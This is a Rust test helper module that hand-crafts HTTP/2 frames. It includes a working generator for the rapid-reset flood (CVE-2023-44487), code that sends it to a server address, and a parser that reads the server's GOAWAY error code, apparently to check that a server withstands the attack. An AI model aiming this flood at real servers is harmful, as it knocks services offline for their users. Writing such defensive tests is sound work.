//! Raw HTTP/2 for attack tests: frames written by hand, so a test can send
//! what no well-behaved client library would.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// An HTTP/2 frame: its header (length, type, flags, stream), then `payload`.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A rapid-reset flood (CVE-2023-44487): the h2c preface and SETTINGS, then
/// `requests` streams each opened (HEADERS with `GET /` from HPACK's static
/// table) and reset at once (RST_STREAM CANCEL).
pub fn rapid_reset_flood(requests: u32) -> Vec<u8> {
    let mut flood = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    flood.extend(frame(0x4, 0, 0, &[]));
    for i in 0..requests {
        let stream = 2 * i + 1;
        flood.extend(frame(0x1, 0x5, stream, &[0x82, 0x86, 0x84]));
        flood.extend(frame(0x3, 0, stream, &8u32.to_be_bytes()));
    }
    flood
}

/// Writes `flood` to a new connection to `addr` (the server may close it
/// before all is written) and returns everything the server sent until it
/// closed the connection. Panics if it does not close within 30 s.
pub async fn send_flood(addr: std::net::SocketAddr, flood: &[u8]) -> Vec<u8> {
    let mut attacker = TcpStream::connect(addr).await.expect("connect");
    let _ = attacker.write_all(flood).await;
    let mut received = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(30), attacker.read_to_end(&mut received))
        .await
        .expect("the server closes the flooding connection");
    received
}

/// The error code of the first GOAWAY among the frames in `received`.
pub fn goaway_code(received: &[u8]) -> Option<u32> {
    let mut at = 0;
    while at + 9 <= received.len() {
        let len = (usize::from(received[at]) << 16)
            | (usize::from(received[at + 1]) << 8)
            | usize::from(received[at + 2]);
        let kind = received[at + 3];
        let payload = &received[(at + 9).min(received.len())..(at + 9 + len).min(received.len())];
        if kind == 0x7 && payload.len() >= 8 {
            return Some(u32::from_be_bytes([
                payload[4], payload[5], payload[6], payload[7],
            ]));
        }
        at += 9 + len;
    }
    None
}
